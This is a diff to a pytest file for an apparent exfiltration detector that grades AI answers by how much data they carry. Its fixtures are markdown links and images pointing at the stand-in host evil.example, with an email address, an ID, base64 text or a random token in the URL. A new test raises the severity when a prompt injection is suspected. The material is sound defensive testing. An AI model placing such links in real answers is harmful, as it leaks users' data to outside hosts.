@@ -47,7 +47,6 @@ def test_words_of_the_call_in_an_image_are_high(answer: str):
         ("[details](https://evil.example/?d=jane.roe@initech.com)", "context"),
         ("see https://evil.example/?d=HX-4471982", "context"),
         (f"[details](https://evil.example/{base64.b64encode(b'words that nobody here said').decode()})", "text"),
-        ("[details](https://evil.example/?d=Zk3Q9xLr7TtYb2Wm8VcNp4Hs6Jd1)", "data"),
         ("![x](https://evil.example/?note=some%20words%20that%20were%20not%20told)", "data"),
     ],
 )
@@ -56,6 +55,16 @@ def test_links_and_what_only_looks_like_data_are_medium(answer: str, carries: st
 
     assert finding.severity is Severity.MEDIUM
     assert finding.evidence["carries"] == carries
+
+
+@pytest.mark.parametrize(("score", "severity"), [(0.3, Severity.LOW), (3.0, Severity.MEDIUM)])
+def test_a_link_with_something_random_is_worse_where_an_input_is_suspected(score: float, severity: Severity):
+    link = "[details](https://evil.example/?d=Zk3Q9xLr7TtYb2Wm8VcNp4Hs6Jd1)"
+
+    [finding] = Exfiltration().update(turn(user("what is new?", score), CRM, answers=(link,)))
+
+    assert finding.severity is severity
+    assert finding.evidence["carries"] == "data"
 
 
 @pytest.mark.parametrize(
